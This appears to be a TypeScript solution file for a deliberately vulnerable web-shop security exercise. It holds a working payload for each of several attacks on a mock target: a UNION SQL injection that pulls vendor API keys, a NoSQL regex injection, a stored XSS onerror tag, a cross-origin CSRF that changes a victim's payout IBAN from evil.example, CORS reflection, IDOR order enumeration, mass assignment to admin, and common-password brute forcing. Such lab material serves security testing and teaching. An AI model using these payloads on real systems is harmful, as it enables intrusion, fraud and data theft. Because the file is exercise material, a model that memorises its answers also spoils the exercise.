/** Other payloads, other proofs: what a tester might write who has never seen the solution. */
interface Target {
  fetch: (path: string, init?: RequestInit) => Promise<Response>
  me: { email: string; cookie: string; orderId: number }
  victim: {
    email: string
    visit: (path: string) => Promise<Response>
    submitFrom: (origin: string, path: string, fields: Record<string, string>) => Promise<void>
    fetchFrom: (
      origin: string,
      path: string,
      request?: { method?: string; headers?: Record<string, string>; body?: string },
    ) => Promise<Response>
  }
}

const evil = 'https://evil.example'
const form = (fields: Record<string, string>, cookie = '') => ({
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', cookie },
  body: new URLSearchParams(fields).toString(),
})
const found = (text: string, pattern: RegExp) => pattern.exec(text)?.[1] ?? null

export async function sqlInjection({ fetch }: Target) {
  const q = "%' AND 1=0 UNION ALL SELECT -1, 'key is ' || api_key || '.', NULL FROM vendor_keys WHERE '%' = '"
  const text = await (await fetch(`/products?${new URLSearchParams({ q })}`)).text()
  return found(text, /key is ([^.']+)\./)
}

export async function nosqlInjection({ fetch, me }: Target) {
  for (const order of [me.orderId + 1, me.orderId - 1]) {
    const answer = await fetch('/pickups', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: `{"order":${order},"code":{"$regex":"^[0-9]"}}`,
    })
    const note = found(await answer.text(), /"note":"([^"]+)"/)
    if (note) return note
  }
  return null
}

export async function storedXss({ fetch, me }: Target) {
  const tag = '<img src=nothing onerror="steal( )">'
  await fetch('/products/2/reviews', form({ text: `Good.${tag}` }, me.cookie))
  const page = await (await fetch('/products/2')).text()
  return /<img[^>]+onerror="steal/.test(page) ? '/products/2' : null
}

export async function csrf({ victim }: Target) {
  const ibanOf = async () => found(await (await victim.visit('/account')).text(), /"iban":"([^"]*)"/)
  const before = await ibanOf()
  await victim.fetchFrom(evil, '/account/payout', form({ iban: `XX${Date.now()}` })).catch(() => undefined)
  const after = await ibanOf()
  return after === before ? null : after
}

export async function corsReflection({ victim }: Target) {
  return victim.fetchFrom(evil, '/account').then(
    async (answer) => found(await answer.text(), /"iban":"([^"]*)"/),
    () => null,
  )
}

export async function idor({ fetch, me }: Target) {
  for (let id = me.orderId + 3; id > me.orderId - 3; id -= 1) {
    const answer = await fetch(`/orders/${id}`, { headers: { cookie: me.cookie } })
    if (id !== me.orderId && answer.ok) return (await answer.json()).data.note as string
  }
  return null
}

export async function massAssignment({ fetch, me }: Target) {
  const headers = { cookie: me.cookie, 'Content-Type': 'application/json' }
  const roleOf = async () => (await (await fetch('/account', { headers })).json()).data.role as string
  const before = await roleOf()
  await fetch('/account', { method: 'PATCH', headers, body: '{"name":"You","role":"admin"}' })
  const after = await roleOf()
  return after === before ? null : after
}

export async function verboseErrors({ fetch }: Target) {
  const text = await (await fetch('/products/7/stock')).text()
  return found(text, /market:(.*?)@/)
}

export async function missingHeaders({ fetch }: Target) {
  const answer = await fetch('/products/1', { method: 'HEAD' })
  const missing = WATCHED_HEADERS.filter((name) => answer.headers.get(name) === null)
  return missing.length ? missing : null
}

export async function bruteForce({ fetch, victim }: Target) {
  const tried = await Promise.all(
    COMMON_PASSWORDS.map(async (password) => {
      const answer = await fetch('/login', form({ email: victim.email, password }))
      return answer.ok ? password : null
    }),
  )
  return tried.find((password) => password !== null) ?? null
}

export async function bigUpload({ fetch, me }: Target) {
  const answer = await fetch('/imports', {
    method: 'POST',
    headers: { 'Content-Type': 'text/csv', cookie: me.cookie },
    body: Buffer.alloc(1_200_000, 'a,b\n'),
  })
  if (!answer.ok) return null
  const { data } = await answer.json()
  return data.bytes >= 1_000_000 ? (data.bytes as number) : null
}

export const WATCHED_HEADERS = [
  'content-security-policy',
  'strict-transport-security',
  'x-content-type-options',
  'x-frame-options',
  'referrer-policy',
]

export const COMMON_PASSWORDS = [
  ...['123456', 'password', 'qwerty', 'letmein', 'dragon', 'monkey'],
  ...['sunshine', 'princess', 'superman', 'hunter2', 'trustno1', 'secret'],
]
